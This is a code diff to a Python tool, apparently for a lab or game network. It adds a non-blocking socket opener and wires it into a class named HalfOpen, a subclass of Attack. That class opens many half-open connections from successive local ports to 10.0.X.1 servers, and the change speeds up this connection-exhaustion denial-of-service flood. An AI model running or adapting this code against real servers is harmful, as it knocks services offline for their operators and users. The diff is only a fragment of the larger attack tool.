@@ -128,6 +128,22 @@ def connect(address, to, port=None, wait=5):
     raise OSError('no port is left')
 
 
+def begin(address, to, port):
+    """A connection that nobody waits for: round trips would bound how many there are."""
+    s = socket.socket()
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.setblocking(False)
+    try:
+        s.bind((address, port))
+        s.connect(to)
+    except BlockingIOError:
+        pass
+    except OSError:
+        s.close()
+        raise
+    return s
+
+
 class Lane:
     def __init__(self, s):
         self.socket, self.data, self.out, self.deaf = s, b'', bytearray(), False
@@ -500,14 +516,13 @@ class HalfOpen(Attack):
             if len(self.open) >= self.most or self.port == PORT:
                 break
             try:
-                self.open.append(connect(self.address, (f'10.0.{self.heard["server"]}.1', PORT), self.port))
+                self.open.append(begin(self.address, (f'10.0.{self.heard["server"]}.1', PORT), self.port))
                 self.said['opened'] += 1
             except OSError:
                 pass                            # that port has another one
         left = []
         for s in self.open:
             try:
-                s.setblocking(False)
                 if s.recv(100):
                     left.append(s)
                 else:
